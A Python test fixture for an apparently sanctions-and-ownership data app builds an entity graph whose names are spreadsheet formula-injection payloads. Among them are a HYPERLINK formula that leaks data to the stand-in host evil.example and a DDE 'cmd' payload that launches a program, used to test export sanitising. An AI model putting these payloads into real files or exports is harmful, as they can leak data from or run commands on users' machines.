"""Hostile data shared by the hostile-input tests: names a spreadsheet would run as formulas,
written through the real ingest under a test's id prefix."""

from __future__ import annotations

from entanglements.core.settings import Settings
from tests.api.conftest import Findings
from tests.db import SyncDb

#: The names of issue #23, and the two invisible starts OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak","Click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1)",
]
INVISIBLE = ["\t=1+1", "\r=1+1"]
DANGEROUS_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_graph(db: SyncDb, settings: Settings, prefix: str) -> Findings:
    """``parent`` (listed, named a formula) owns 60 % of ``child``; ``twin`` (another source,
    the same name as ``parent``) also holds a stake in ``child``: so screening, resolution,
    ownership derivation and the saved queries all meet the formulas."""
    data = Findings(prefix)
    data.source("list-src", title="+List source", publisher="@publisher")
    data.sanctions_list("list", name="=List", authority="-Authority")
    data.entity(
        "parent", name=FORMULAS[0], kind="Company", citations=[{"source": data.id("list-src")}]
    )
    data.entity("twin", name=FORMULAS[0], kind="Company", citations=[{"source": data.id("src")}])
    data.entity("child", name=FORMULAS[1], kind="Company")
    data.entity("other", name=FORMULAS[2] + " Trading", kind="Company")
    data.entity("at", name=FORMULAS[3] + " Holdings", kind="Company")
    data.listing(
        "parent-on-list", "parent", "list", citations=[data.cite("=1+1", source="list-src")]
    )
    data.rel("own", "ownership", "parent", "child", share=60)
    data.rel("own-twin", "ownership", "twin", "child", share=10)
    data.rel("link", "partnership", "child", "other")
    data.rel("link-at", "partnership", "child", "at")
    data.load(db, settings)
    return data
